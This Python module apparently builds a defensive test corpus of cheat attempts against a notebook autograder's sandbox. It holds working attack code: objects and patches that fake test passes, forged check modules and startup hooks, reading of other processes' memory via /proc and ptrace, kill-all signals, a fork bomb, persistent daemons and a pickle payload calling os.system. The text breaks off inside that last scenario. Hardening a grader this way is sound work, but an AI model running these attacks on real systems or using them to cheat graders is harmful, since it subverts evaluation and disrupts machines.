"""The cheat-attempt corpus: each scenario turns a sample submission of mlp_intro into an attack.

A scenario is a function ``(sample_notebook, folder) -> Path``, named after the attack, that
writes one submission into ``folder`` (a folder of its own, named after the scenario) and
returns its path. ``SCENARIOS`` pairs each with an :class:`Expect`: which sample it starts
from (``blank`` scores 0, ``partly_wrong`` scores what it scores), what grading must make
of it and, where the attack gets through, the hole it uses. ``tests/test_cheat_attempts.py``
grades them all in one warm batch and checks, for each: the score does not rise above the
sample's, nothing hidden reaches the visible feedback, ``results.json`` is the judge's, no
process of the student survives, and nothing ran outside the sandbox.

The attacks run as the student's code does: in notebook cells, in the graded functions, in
files shipped beside the notebook. Where an attack needs a path of this machine (a file
that must stay untouched, a marker that proves code ran outside the sandbox) the scenario
writes it into the notebook, since a real attacker would guess it:

* ``PWNED*`` files: an attack that manages to run code outside the sandbox (as the grader)
  creates one in the scenario's folder, which the student process itself cannot write;
* ``canary*`` files: files of the grader's that an attack tries to take over; their owner,
  mode and content must be the same after grading.

Processes an attack starts name themselves with :func:`process_tag` (in ``comm`` or in
their command line), so a survivor can be traced to its scenario.
"""

from __future__ import annotations

import copy
import json
import textwrap
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

BLANK, PARTLY_WRONG = "blank", "partly_wrong"
STASH_PREFIX = "cheat-stash-"  # files an attack leaves in /dev/shm for a later grading
ABSTRACT_SOCKET = "cheat-attempts-abstract-socket"  # where two concurrent gradings meet


@dataclass(frozen=True)
class Expect:
    base: str  # the sample the attack starts from: BLANK or PARTLY_WRONG
    status: str = "graded"
    same_score: bool = False  # grading must not be hurt: exactly the sample's score
    absent: tuple[str, ...] = ()  # words that must not appear in the visible feedback
    staff_words: tuple[str, ...] = ()  # words the staff-only notebook output must hold
    # the attack may earn the public tests' points (each checks the notebook's own example,
    # which anyone can type in: they are a study aid), but no hidden test's
    public_points: bool = False
    # holes this attack gets through: {property: what lets it}, the test of each a strict
    # xfail; the properties: "score", "leak", "results", "processes", "files"
    holes: dict[str, str] = field(default_factory=dict)


def process_tag(scenario_name: str) -> str:
    """A short name (at most 15 characters, what ``comm`` keeps) for an attack's processes."""
    return "cht" + format(zlib.crc32(scenario_name.encode()) & 0xFFFFFF, "06x")


# --- building submissions --------------------------------------------------------------------


def _write(notebook, folder: Path, name: str) -> Path:
    path = folder / f"{name}.ipynb"
    nbformat.write(notebook, path)
    return path


def _source(text: str, folder: Path) -> str:
    """A cell's source: dedented, with the scenario's tag and folder filled in."""
    return (textwrap.dedent(text).strip("\n") + "\n").replace("__TAG__", process_tag(folder.name)).replace(
        "__FOLDER__", str(folder))


def _append(notebook, folder: Path, *sources: str):
    """A copy with code cells appended after every other cell (the answers are defined by then)."""
    changed = copy.deepcopy(notebook)
    for source in sources:
        changed.cells.append(nbformat.v4.new_code_cell(_source(source, folder)))
    return changed


def _attack(notebook, folder: Path, *sources: str) -> Path:
    return _write(_append(notebook, folder, *sources), folder, folder.name)


# --- pieces of attack code, shared by several scenarios ----------------------------------------

# A cell after the one that defines ``lie()``: every graded answer returns what it makes.
EVERY_ANSWER_LIES = """
from torch import nn

def approximate_function(x_train, y_train):
    return lie(), lie(), lie()

def cross_entropy_loss(x, labels):
    return lie()

def shuffle_and_split_data(X, y, seed):
    return lie(), lie(), lie(), lie()

class Net(nn.Module):
    def __init__(self, *args, **kwargs):
        super().__init__()
        self.cheat = nn.Linear(1, 1)
    def forward(self, x):
        return lie()
"""

# How a cell finds the grading engine's modules in its own process (they are there: the
# student process is a fork of the grader's).
FIND_ENGINE = """
import sys as _sys

def _engine_module(*names):
    for _module in list(_sys.modules.values()):
        try:
            if _module is not None and all(hasattr(_module, _name) for _name in names):
                return _module
        except Exception:
            pass
    return None

STUDENT_MODULE = _engine_module("Workspace", "serve")
WIRE_MODULE = _engine_module("read_frame", "frame", "Encoder")
print("engine modules:", STUDENT_MODULE is not None, WIRE_MODULE is not None)
"""

# Definitions that answer the hidden cases from the reference numbers, when a cell found
# them (``NUMBERS``); without them, they answer garbage. The test module's positive control
# runs them with the real numbers to show they would score.
LOOKUP_ANSWERS = """
import numpy as _np
import torch as _torch

def _case_with(graded_name, key, value):
    if not isinstance(NUMBERS, dict):
        return None
    wanted = _np.asarray(_torch.as_tensor(value).detach(), dtype=_np.float64).reshape(-1)
    for case in NUMBERS.get("cases", {}).get(graded_name, []):
        known = _np.asarray(case[key], dtype=_np.float64).reshape(-1)
        if known.shape == wanted.shape and _np.allclose(known, wanted, atol=1e-5):
            return case
    return None

def approximate_function(x_train, y_train):
    case = _case_with("approximate_function", "x_train", x_train)
    if case is None:
        return _torch.full((3,), -7.0), _torch.full((3,), -7.0), _torch.full((3,), -7.0)
    sample = _torch.tensor(case["grid_sample"])
    x, y_hat = _torch.zeros(1000), _torch.zeros(1000)
    relu_acts = _torch.zeros(len(case["x_train"]) - 1, 1000)
    x[sample] = _torch.tensor(case["x"], dtype=_torch.float32)
    y_hat[sample] = _torch.tensor(case["y_hat"], dtype=_torch.float32)
    relu_acts[:, sample] = _torch.tensor(case["relu_acts"], dtype=_torch.float32)
    return y_hat, relu_acts, x

def cross_entropy_loss(x, labels):
    case = _case_with("cross_entropy_loss", "logits", x)
    return _torch.tensor(-1.0 if case is None else case["loss"])
"""

# Answers whose true values are wrong in every check (wrong shapes, wrong numbers), for
# attacks that lie about them.
WRONG_ANSWERS = """
import torch as _torch

def approximate_function(x_train, y_train):
    return _torch.full((3,), -7.0), _torch.full((3,), -7.0), _torch.full((3,), -7.0)

def cross_entropy_loss(x, labels):
    return _torch.tensor(-1.0)

def shuffle_and_split_data(X, y, seed):
    return X[:1], y[:1], X[:1], y[:1]
"""

# A fake checks module: every check of it passes whatever it is given.
FAKE_CHECKS = '''
"""Every check passes."""
def __getattr__(name):
    return lambda *args, **kwargs: None
def cases_for(*args, **kwargs):
    return []
'''

FAKE_NUMBERS = json.dumps({"assignment": "mlp_intro", "versions": {}, "cases": {
    "Net": [], "approximate_function": [], "cross_entropy_loss": [], "shuffle_and_split_data": []}})

# A test file that would give points for nothing (and leave a marker) if the judge ran it.
FAKE_TEST_FILE = '''
from otter.test_files import test_case
import pathlib
pathlib.Path("__FOLDER__/PWNED-test-file").write_text("a test file of the student's ran")
OK_FORMAT = False
name = "q1_approximate_function"
points = 100

@test_case(points=None, hidden=False)
def test_free_points(approximate_function):
    pathlib.Path("__FOLDER__/PWNED-test-case").write_text("a test case of the student's ran")
'''

# Code in a file the judge must never import: it would leave a marker and patch the checks.
FAKE_HOOK = '''
import pathlib
pathlib.Path("__FOLDER__/PWNED-hook").write_text("a file shipped with the submission ran")
'''

SPELL = """
def _spell(*tensors, count=6):
    import torch as _t
    values = []
    for tensor in tensors:
        values += [float(v) for v in _t.as_tensor(tensor).detach().reshape(-1).tolist()]
    return [abs(v) for v in values if abs(round(abs(v), 2) - abs(v)) > 1e-6][:count]
"""


# --- lying values --------------------------------------------------------------------------------


def always_equal_objects(nb, folder):
    """Every graded function returns an object that equals anything and has any attribute."""
    return _attack(nb, folder, """
        import torch

        class AlwaysEqual:
            def __init__(self, *args, **kwargs): pass
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __lt__(self, other): return True
            __le__ = __gt__ = __ge__ = __lt__
            def __hash__(self): return 0
            def __bool__(self): return True
            def __float__(self): return 0.0
            def __int__(self): return 0
            def __index__(self): return 0
            def __len__(self): return 3
            def __iter__(self): return iter([AlwaysEqual(), AlwaysEqual(), AlwaysEqual()])
            def __getitem__(self, key): return AlwaysEqual()
            def __abs__(self): return 0.0
            def __sub__(self, other): return AlwaysEqual()
            __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __sub__
            def __call__(self, *args, **kwargs): return AlwaysEqual()
            def __getattr__(self, name): return AlwaysEqual()
            def __repr__(self): return "tensor(0.3467)"

        def approximate_function(x_train, y_train):
            return AlwaysEqual(), AlwaysEqual(), AlwaysEqual()

        def cross_entropy_loss(x, labels):
            return AlwaysEqual()

        def shuffle_and_split_data(X, y, seed):
            return AlwaysEqual(), AlwaysEqual(), AlwaysEqual(), AlwaysEqual()

        class Net(AlwaysEqual):
            pass
    """)


def lying_float_subclass(nb, folder):
    """A float that equals everything, is close to everything, and says it is another number."""
    return _attack(nb, folder, """
        class LyingFloat(float):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __lt__(self, other): return True
            __le__ = __gt__ = __ge__ = __lt__
            __hash__ = float.__hash__
            def __abs__(self): return LyingFloat(0.0)
            def __sub__(self, other): return LyingFloat(0.0)
            __rsub__ = __add__ = __radd__ = __sub__
            def __float__(self): return 0.34672749
            def __repr__(self): return "0.34672749"
            __str__ = __repr__
            def __format__(self, spec): return "0.34672749"
            shape = (1000,)
            def numel(self): return 1000

        def lie():
            return LyingFloat(-7.0)
    """, EVERY_ANSWER_LIES)


def lying_int_subclass(nb, folder):
    """An int that equals everything and reports another value through ``__index__``/``__int__``."""
    return _attack(nb, folder, """

        class LyingInt(int):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __lt__(self, other): return True
            __le__ = __gt__ = __ge__ = __lt__
            __hash__ = int.__hash__
            def __index__(self): return 1000
            def __int__(self): return 1000
            def __float__(self): return 0.34672749
            def __abs__(self): return LyingInt(0)
            def __sub__(self, other): return LyingInt(0)
            __rsub__ = __sub__
            def __repr__(self): return "1000"
            shape = (1000,)

        def lie():
            return LyingInt(-7)
    """, EVERY_ANSWER_LIES)


def lying_ndarray_subclass(nb, folder):
    """An ndarray subclass that lies through ``__eq__``, ``__array_function__`` (np.allclose,
    np.array_equal), ``__array_ufunc__``, ``__array__`` and a ``shape`` property."""
    return _attack(nb, folder, """
        import numpy as np

        class LyingArray(np.ndarray):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __array_function__(self, func, types, args, kwargs):
                return True
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                return np.zeros(1000).view(LyingArray)
            def __array__(self, dtype=None, copy=None):
                return np.zeros(1000)
            @property
            def shape(self):
                return (1000,)
            def __len__(self): return 1000
            def tolist(self): return [0.0] * 1000
            def __float__(self): return 0.34672749

        def lie():
            return np.full(3, -7.0).view(LyingArray)

    """, EVERY_ANSWER_LIES)


def lying_tensor_subclass(nb, folder):
    """A Tensor subclass whose ``__torch_function__`` answers True to every comparison
    (torch.allclose, torch.equal, ==) and whose ``shape`` and ``numel`` lie."""
    return _attack(nb, folder, """
        import torch

        COMPARISONS = {"eq", "__eq__", "equal", "allclose", "isclose", "ne", "__ne__", "le", "ge",
                       "lt", "gt", "__lt__", "__le__", "__gt__", "__ge__"}

        class LyingTensor(torch.Tensor):
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                name = getattr(func, "__name__", "")
                if name in COMPARISONS:
                    return True
                with torch._C.DisableTorchFunctionSubclass():
                    return func(*args, **(kwargs or {}))
            @property
            def shape(self):
                return torch.Size([1000])
            def size(self, *args):
                return torch.Size([1000]) if not args else 1000
            def numel(self):
                return 1000
            def __eq__(self, other):
                return True

        def lie():
            return torch.full((3,), -7.0).as_subclass(LyingTensor)

    """, EVERY_ANSWER_LIES)


def patched_comparisons(nb, folder):
    """A cell replaces the comparisons a check could make: numpy, torch, builtins, math, operator."""
    return _attack(nb, folder, """
        import builtins, math, operator
        import numpy as np
        import torch

        always = lambda *args, **kwargs: True
        np.allclose = np.isclose = np.array_equal = np.array_equiv = always
        np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
        torch.allclose = torch.equal = torch.isclose = always
        torch.testing.assert_close = lambda *a, **k: None
        math.isclose = always
        operator.eq = operator.__eq__ = always
        operator.ne = operator.__ne__ = lambda *a: False
        builtins.abs = lambda x: 0
        builtins.all = builtins.any = lambda *a: True
        builtins.round = lambda x, *a: x
    """, WRONG_ANSWERS)


# --- forged checks and tests ---------------------------------------------------------------------


def patched_checks_module_in_a_cell(nb, folder):
    """A cell makes every check pass: patches any checks module already loaded, imports and
    patches the real one, and writes a fake ``autograder/checks/mlp_intro.py`` (and reference
    numbers without cases) into its folder, first on ``sys.path``."""
    return _attack(nb, folder, """
        import os, sys, pathlib

        def _neuter(module):
            for name in dir(module):
                if not name.startswith("__") and callable(getattr(module, name)):
                    setattr(module, name, lambda *args, **kwargs: None)

        for name, module in list(sys.modules.items()):
            if module is not None and ("checks" in name or "reference" in name):
                _neuter(module)
        for name in ("autograder.checks.mlp_intro", "autograder.checks.values", "autograder.checks",
                     "autograder.hidden_checks.mlp_intro", "reference.numbers"):
            try:
                __import__(name)
                _neuter(sys.modules[name])
                print("patched", name)
            except Exception as error:
                print("could not import", name, type(error).__name__)

        FAKE = __FAKE_CHECKS__
        NUMBERS = __FAKE_NUMBERS__
        for root in [os.getcwd(), os.path.expanduser("~"), "..", "/tmp", "/autograder/source"]:
            try:
                for package in ("autograder", "autograder/checks", "autograder/hidden_checks", "reference"):
                    pathlib.Path(root, package).mkdir(parents=True, exist_ok=True)
                    pathlib.Path(root, package, "__init__.py").write_text(FAKE)
                for module in ("autograder/checks/mlp_intro.py", "autograder/checks/values.py",
                               "autograder/hidden_checks/mlp_intro.py", "reference/numbers.py"):
                    pathlib.Path(root, module).write_text(FAKE)
                pathlib.Path(root, "reference/numbers").mkdir(exist_ok=True)
                pathlib.Path(root, "reference/numbers/mlp_intro.json").write_text(NUMBERS)
                print("fake checks written in", root)
            except OSError as error:
                print("could not write in", root, type(error).__name__)
        sys.path.insert(0, os.getcwd())
        for name in [n for n in sys.modules if n.startswith(("autograder.checks", "reference"))]:
            del sys.modules[name]
    """.replace("__FAKE_CHECKS__", repr(FAKE_CHECKS)).replace("__FAKE_NUMBERS__", repr(FAKE_NUMBERS)),
        WRONG_ANSWERS)


def forged_checks_in_a_zip_submission(nb, folder):
    """A zip with the notebook and the grader's package names beside it: ``autograder/checks``,
    ``hidden_checks``, ``reference/numbers`` without cases, test files worth 100 points, and
    files Python or pytest would run (``sitecustomize.py``, ``usercustomize.py``, a ``.pth``,
    ``conftest.py``, ``otter.py``)."""
    notebook = _append(nb, folder, WRONG_ANSWERS)
    hook = _source(FAKE_HOOK, folder)
    tests = _source(FAKE_TEST_FILE, folder)
    path = folder / f"{folder.name}.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mlp_intro.ipynb", nbformat.writes(notebook))
        for package in ("autograder", "autograder/checks", "autograder/hidden_checks", "hidden_checks",
                        "reference", "autograder/grading_runtime"):
            archive.writestr(f"{package}/__init__.py", hook + FAKE_CHECKS)
        for module in ("autograder/checks/mlp_intro.py", "autograder/checks/values.py",
                       "autograder/hidden_checks/mlp_intro.py", "hidden_checks/mlp_intro.py",
                       "reference/numbers.py", "reference/mlp_intro.py",
                       "autograder/grading_runtime/judge.py", "autograder/grading_runtime/results.py"):
            archive.writestr(module, hook + FAKE_CHECKS)
        archive.writestr("reference/numbers/mlp_intro.json", FAKE_NUMBERS)
        archive.writestr("autograder/grading_runtime/settings.json", json.dumps({"max_attempts": 0}))
        for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "otter.py", "run_grader.py",
                     "numpy.py", "torch.py"):
            archive.writestr(name, hook)
        archive.writestr("cheat.pth", f"import pathlib; pathlib.Path('{folder}/PWNED-pth').write_text('x')\n")
        for test in ("q0_free_points.py", "q1_approximate_function.py", "q3_cross_entropy.py"):
            archive.writestr(f"tests/{test}", tests)
            archive.writestr(f"source/tests/{test}", tests)
        archive.writestr("results/results.json", json.dumps({"score": 15, "output": "FORGED in the zip"}))
    return path


def added_test_files(nb, folder):
    """A cell writes test files worth 100 points into every tests folder it can guess: its
    own folder, ``../source/tests``, ``/autograder/source/tests``, the unpacked zips under
    /tmp, and the judge's own source folder, found in the memory the process inherited."""
    return _attack(nb, folder, """
        import gc, glob, os, pathlib

        TEST = __FAKE_TEST__
        folders = ["tests", "../tests", "../source/tests", "../../source/tests",
                   "/autograder/source/tests", "/autograder/tests"]
        folders += glob.glob("/tmp/autograder-source-*/tests") + glob.glob("/tmp/*/autograder/source/tests")
        for thing in gc.get_objects():
            try:
                if type(thing).__name__ == "Judge":
                    folders.append(os.path.join(str(thing.source), "tests"))
                    print("the judge's source folder:", thing.source)
            except Exception:
                pass
        for tests in folders:
            for name in ("q0_free_points.py", "q1_approximate_function.py"):
                try:
                    pathlib.Path(tests).mkdir(parents=True, exist_ok=True)
                    pathlib.Path(tests, name).write_text(TEST)
                    print("wrote", tests, name)
                except OSError as error:
                    print("could not write", tests, type(error).__name__)
    """.replace("__FAKE_TEST__", repr(_source(FAKE_TEST_FILE, folder))), WRONG_ANSWERS)


# --- reading what is hidden ------------------------------------------------------------------------


def reading_reference_numbers_from_disk(nb, folder):
    """A cell looks for the reference numbers and the tests where they could be (the
    Gradescope paths, the repository, the unpacked zips under /tmp, the judge's source folder
    from inherited memory, every ``sys.path`` entry, and a walk of /), and answers the hidden
    cases from them if it found them."""
    return _attack(nb, folder, """
        import gc, glob, json, os, sys, time

        candidates = ["/autograder/source/reference/numbers/mlp_intro.json",
                      "/work/main/reference/numbers/mlp_intro.json",
                      "../source/reference/numbers/mlp_intro.json", "../reference/numbers/mlp_intro.json"]
        candidates += glob.glob("/tmp/autograder-source-*/reference/numbers/mlp_intro.json")
        candidates += glob.glob("/tmp/*/reference/numbers/mlp_intro.json")
        candidates += [os.path.join(entry, "reference/numbers/mlp_intro.json") for entry in sys.path if entry]
        for thing in gc.get_objects():
            try:
                if type(thing).__name__ == "Judge":
                    candidates.append(os.path.join(str(thing.source), "reference/numbers/mlp_intro.json"))
            except Exception:
                pass
        deadline = time.monotonic() + 4.0
        for root, dirs, files in os.walk("/"):
            if time.monotonic() > deadline:
                break
            dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev")]
            if "mlp_intro.json" in files:
                candidates.append(os.path.join(root, "mlp_intro.json"))
        NUMBERS, TESTS = None, {}
        for candidate in candidates:
            try:
                with open(candidate) as handle:
                    NUMBERS = json.load(handle)
                print("READ the reference numbers at", candidate)
                break
            except (OSError, ValueError):
                pass
        for tests in glob.glob("/tmp/autograder-source-*/tests/*.py") + glob.glob("/autograder/source/tests/*.py"):
            try:
                TESTS[tests] = open(tests).read()
            except OSError:
                pass
        print("numbers found:", NUMBERS is not None, "tests read:", len(TESTS))
    """, LOOKUP_ANSWERS)


def reading_the_judge_through_proc(nb, folder):
    """A cell reads the grader's processes through /proc (environ, cmdline, maps, mem, cwd,
    fd), tries ptrace and process_vm_readv on them, searches what it read for the hidden
    numbers, and answers from them if it found them."""
    return _attack(nb, folder, """
        import ctypes, gc, json, os, re

        pids = {os.getppid()}
        for thing in gc.get_objects():
            try:
                if type(thing).__name__ == "Plan":
                    pids |= set(thing.judge_pids)
            except Exception:
                pass
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != os.getpid():
                try:
                    if "run_grader" in open(f"/proc/{entry}/cmdline").read():
                        pids.add(int(entry))
                except OSError:
                    pass
        print("grader processes:", sorted(pids))
        found = []
        for pid in sorted(pids):
            for part in ("environ", "cmdline", "maps", "status", "cwd/tests/q1_approximate_function.py",
                         "cwd/reference/numbers/mlp_intro.json", "root/tmp", "fd/0", "fd/1"):
                try:
                    with open(f"/proc/{pid}/{part}", "rb") as handle:
                        data = handle.read(1 << 20)
                    print("READ", pid, part, len(data))
                    found.append(data)
                except OSError as error:
                    print("no", pid, part, type(error).__name__)
            try:
                with open(f"/proc/{pid}/mem", "rb") as mem:
                    maps = open(f"/proc/{pid}/maps").read().splitlines()
                    for line in maps[:200]:
                        start, end = (int(x, 16) for x in line.split()[0].split("-"))
                        mem.seek(start)
                        found.append(mem.read(min(end - start, 1 << 20)))
                print("READ the memory of", pid)
            except (OSError, ValueError) as error:
                print("no memory of", pid, type(error).__name__)
            libc = ctypes.CDLL(None, use_errno=True)
            PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
            for request in (PTRACE_ATTACH, PTRACE_SEIZE):
                result = libc.ptrace(request, pid, 0, 0)
                print("ptrace", request, pid, result, os.strerror(ctypes.get_errno()))
            class iovec(ctypes.Structure):
                _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
            buffer = ctypes.create_string_buffer(4096)
            local, remote = iovec(ctypes.cast(buffer, ctypes.c_void_p), 4096), iovec(0x400000, 4096)
            result = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            print("process_vm_readv", pid, result, os.strerror(ctypes.get_errno()))
        NUMBERS = None
        for data in found:
            match = re.search(rb'\\{\\s*"assignment": "mlp_intro".*', data, re.S)
            if match:
                try:
                    NUMBERS = json.JSONDecoder().raw_decode(match.group(0).decode())[0]
                    print("FOUND the numbers in the grader's memory")
                except ValueError:
                    pass
    """, LOOKUP_ANSWERS)


# --- forged results and output -----------------------------------------------------------------------

FORGED_RESULTS = json.dumps({
    "score": 15, "output": "FORGED-RESULTS: every test passed", "execution_time": 1,
    "tests": [{"name": "q1_approximate_function", "score": 4, "max_score": 4, "output": "FORGED-RESULTS"}],
})


def forged_results_json(nb, folder):
    """A cell writes a full-marks results.json wherever the grader could read one
    (../results, /autograder/results, the path of the job found in inherited memory), again
    from an atexit handler and from a detached daemon that waits, then writes for 20 s; the
    next cell ends the process with ``os._exit``."""
    return _attack(nb, folder, """
        import atexit, ctypes, gc, json, os, time

        FORGED = __FORGED__
        targets = ["../results/results.json", "../../results/results.json", "/autograder/results/results.json"]
        for thing in gc.get_objects():
            try:
                if type(thing).__name__ == "Job":
                    targets.append(str(thing.results))
                if type(thing).__name__ == "_Results":
                    targets.append(str(thing.path))
            except Exception:
                pass
        print("results files:", targets)

        def forge():
            for target in targets:
                try:
                    os.makedirs(os.path.dirname(target), exist_ok=True)
                    with open(target, "w") as handle:
                        handle.write(FORGED)
                    print("FORGED", target)
                except OSError:
                    pass

        forge()
        atexit.register(forge)
        first = os.fork()
        if first == 0:
            os.setsid()
            if os.fork() == 0:
                ctypes.CDLL(None).prctl(15, b"__TAG__", 0, 0, 0)
                time.sleep(1.0)
                end = time.monotonic() + 20
                while time.monotonic() < end:
                    forge()
                    time.sleep(0.2)
            os._exit(0)
        os.waitpid(first, 0)
    """.replace("__FORGED__", repr(FORGED_RESULTS)), """
        import os
        os._exit(0)
    """)


def fake_score_text(nb, folder):
    """A cell prints a full-marks results JSON, "Score: 15/15" and a line of the batch
    protocol, on every stream and file descriptor it holds (sockets aside) and as rich output."""
    return _attack(nb, folder, """
        import json, os, stat, sys
        from IPython.display import HTML, display

        TEXT = "Score: 15/15 FAKE-SCORE all tests passed"
        lines = [__FORGED__, TEXT,
                 json.dumps({"name": "fake_score_text", "seconds": 0.1, "written": True})]
        for line in lines:
            print(line)
            print(line, file=sys.stderr)
            sys.__stdout__.write(line + "\\n")
        display(HTML(f"<h1>{TEXT}</h1>"))
        for fd in range(256):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    continue
                os.write(fd, ("\\n".join(lines) + "\\n").encode())
            except OSError:
                pass
        for path in ("/dev/tty", "/dev/console", "/proc/1/fd/1", "/proc/self/fd/1", "../results/output.txt"):
            try:
                with open(path, "w") as handle:
                    handle.write(TEXT + "\\n")
            except OSError:
                pass
    """.replace("__FORGED__", repr(FORGED_RESULTS)), WRONG_ANSWERS)


def later_cells_neutralised(nb, folder):
    """The last cell makes every later cell a no-op (an input transformer that returns
    ``pass``), swallows every error (sys.excepthook, showtraceback, a custom exception
    handler) and replaces run_cell: nothing the grader might run in the kernel afterwards
    could fail."""
    return _attack(nb, folder, """
        import sys

        shell = get_ipython()
        shell.input_transformers_post.append(lambda lines: ["pass\\n"])
        shell.input_transformers_cleanup.insert(0, lambda lines: ["pass\\n"])
        sys.excepthook = lambda *args: None
        shell.showtraceback = lambda *args, **kwargs: None
        shell.showsyntaxerror = lambda *args, **kwargs: None
        shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
        _run_cell = shell.run_cell
        shell.run_cell = lambda *args, **kwargs: _run_cell("pass")
    """, """
        raise AssertionError("this cell should have been neutralised")
    """)


# --- processes -------------------------------------------------------------------------------------


def signals_to_the_grader(nb, folder):
    """A cell sends SIGKILL, SIGSTOP and SIGTERM to its parent, to the judge's pids found in
    inherited memory, to every process it can see, to process groups (kill(-1), killpg of the
    parent's and the judge's groups), and through the raw syscalls (tkill, tgkill,
    rt_sigqueueinfo)."""
    return _attack(nb, folder, """
        import ctypes, gc, os, signal

        me, my_group = os.getpid(), os.getpgid(0)
        judges = {os.getppid()}
        for thing in gc.get_objects():
            try:
                if type(thing).__name__ == "Plan":
                    judges |= set(thing.judge_pids)
            except Exception:
                pass
        everyone = {int(p) for p in os.listdir("/proc") if p.isdigit()} - {me}
        sent = 0
        for pid in sorted(judges) + sorted(everyone - judges):
            for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(pid, sig)
                    sent += 1
                except OSError:
                    pass
        groups = set()
        for pid in judges | {1}:
            try:
                groups.add(os.getpgid(pid))
            except OSError:
                pass
        for group in groups - {my_group, 0}:
            try:
                os.killpg(group, signal.SIGKILL)
                sent += 1
            except OSError:
                pass
        for target in (-1,):
            try:
                os.kill(target, signal.SIGKILL)
                sent += 1
            except OSError as error:
                print("kill(-1):", type(error).__name__)
        libc = ctypes.CDLL(None, use_errno=True)
        SYS_tkill, SYS_tgkill, SYS_rt_sigqueueinfo = 200, 234, 129
        info = ctypes.create_string_buffer(128)
        for pid in judges:
            libc.syscall(SYS_tkill, pid, 9)
            libc.syscall(SYS_tgkill, pid, pid, 9)
            libc.syscall(SYS_rt_sigqueueinfo, pid, 9, info)
        print("signals delivered:", sent)
    """)


DAEMON = """
import ctypes, os, signal, sys, time

def _daemonize(body):
    first = os.fork()
    if first == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(sig, signal.SIG_IGN)
                ctypes.CDLL(None).prctl(15, b"__TAG__", 0, 0, 0)
                body()
        finally:
            os._exit(0)
    os.waitpid(first, 0)
"""


def daemon_left_behind(nb, folder):
    """Daemons in sessions of their own that would live on after grading: one sleeps forever
    ignoring SIGTERM/SIGHUP, one becomes ``sleep 3600`` (argv[0] the tag), one lives in new
    user and PID namespaces made with a raw clone()."""
    return _attack(nb, folder, DAEMON, """
        import platform

        def sleep_forever():
            while True:
                time.sleep(60)

        def become_sleep():
            for program in ("/bin/sleep", "/usr/bin/sleep"):
                try:
                    os.execv(program, ["__TAG__", "3600"])
                except OSError:
                    pass
            sleep_forever()

        def in_new_namespaces():
            CLONE_NEWUSER, CLONE_NEWPID, SIGCHLD = 0x10000000, 0x20000000, 17
            if platform.machine() == "x86_64":
                libc = ctypes.CDLL(None, use_errno=True)
                child = libc.syscall(56, CLONE_NEWUSER | CLONE_NEWPID | SIGCHLD, 0, 0, 0, 0)
                if child == 0:
                    ctypes.CDLL(None).prctl(15, b"__TAG__", 0, 0, 0)
                    sleep_forever()
                print("clone into new namespaces:", child)
            sleep_forever()

        for body in (sleep_forever, become_sleep, in_new_namespaces):
            _daemonize(body)
        time.sleep(0.2)
    """)


def pid_hopping_daemons(nb, folder):
    """Daemons that fork a copy of themselves and exit, over and over, so each pid lives a
    few milliseconds: a kill by pid, from a list read a moment earlier, always comes late."""
    return _attack(nb, folder, DAEMON, """
        def hop():
            while True:
                try:
                    child = os.fork()
                except OSError:
                    time.sleep(0.001)
                    continue
                if child:
                    os._exit(0)
                ctypes.CDLL(None).prctl(15, b"__TAG__", 0, 0, 0)
                time.sleep(0.002)

        for _ in range(6):
            _daemonize(hop)
        time.sleep(0.2)
    """)


def process_flood(nb, folder):
    """Tens of processes, each ending by itself: 40 waited for, then 40 left to end alone."""
    return _attack(nb, folder, """
        import ctypes, os, time

        waited = []
        for _ in range(40):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                time.sleep(0.3)
                os._exit(0)
            waited.append(pid)
        for pid in waited:
            os.waitpid(pid, 0)
        left = 0
        for _ in range(40):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                ctypes.CDLL(None).prctl(15, b"__TAG__", 0, 0, 0)
                time.sleep(0.5)
                os._exit(0)
            left += 1
        print("flood:", len(waited), "waited,", left, "left")
    """)


def fork_bomb(nb, folder):
    """A fork bomb in a session of its own that never stops forking: every process forks as
    fast as it can, forever. The process limit must stop it, and grading must go on."""
    return _attack(nb, folder, """
        import ctypes, os, time

        first = os.fork()
        if first == 0:
            os.setsid()
            ctypes.CDLL(None).prctl(15, b"__TAG__", 0, 0, 0)
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)
        time.sleep(1.0)
        print("the bomb is running")
    """)


def exhausting_file_descriptors(nb, folder):
    """A cell opens files and socket pairs until the process may open no more, and keeps them."""
    return _attack(nb, folder, """
        import os, socket

        HOARD = []
        try:
            while True:
                HOARD.append(os.open("/dev/null", os.O_RDONLY))
        except OSError as error:
            print("file descriptors exhausted after", len(HOARD), type(error).__name__)
        try:
            while True:
                HOARD.append(socket.socketpair())
        except OSError:
            pass
    """)


# --- the channel ----------------------------------------------------------------------------------


def pickle_payload_to_sockets(nb, folder):
    """A cell sends a pickle that would run a command (and leave a marker) to every socket
    of the grader's it can find: Unix sockets listed in /proc/net/unix (abstract, or under
    /tmp), the grader's channel itself; it tries a network socket for every port listed in
    /proc/net/tcp and for a scan of localhost (it only counts whether one could be made: it
    connects nowhere, so that nothing else on the machine is touched); and it writes the
    pickle to files the grader might load."""
    return _attack(nb, folder, """
        import glob, os, pickle, socket, stat, time

        class Payload:
            def __reduce__(self):
                return (os.system, ("touch __FOLDER__/PWNED-pickle",))

        PAYLOAD = pickle.dumps(Payload())
